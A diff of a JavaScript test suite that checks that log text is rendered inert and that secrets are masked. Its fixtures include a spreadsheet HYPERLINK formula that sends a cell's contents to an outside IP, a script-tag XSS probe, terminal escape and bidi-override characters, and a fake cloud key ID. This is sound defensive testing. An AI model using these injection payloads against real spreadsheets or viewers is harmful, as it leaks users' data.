@@ -126,7 +126,7 @@ const FORMULA = `=HYPERLINK("http://198.51.100.7/?"&A1,"click")`;
 
 describe("text from logs is inert in every form", () => {
   const messages = [ESCAPES, SCRIPT, BIDI, FORMULA, `+${FORMULA}`, `@SUM(1)`, "| a | b |\n\n# h"];
-  const hostileName = `<script>alert(1)</script>=1+1${"\u001b[31m"}\u202e`;
+  const hostileName = "<script>alert(1)</script>=1+1\u001b[31m\u202e";
   const hostile = file(
     "hostile.json",
     JSON.stringify({
@@ -207,7 +207,7 @@ describe("text from logs is inert in every form", () => {
 
 describe("secrets in failing lines are masked in every form", () => {
   // Put together at run time, so that no scanner takes this file for a leak.
-  const keyId = `AKIA${"ABCD1234EFGH5678"}`;
+  const keyId = ["AKIA", "ABCD1234EFGH5678"].join("");
   const secrets = [keyId, "hunter2hunter2", "s3cr3t-in-url", "tok_0123456789abcdef"];
   const secretive = file(
     "secrets.log",
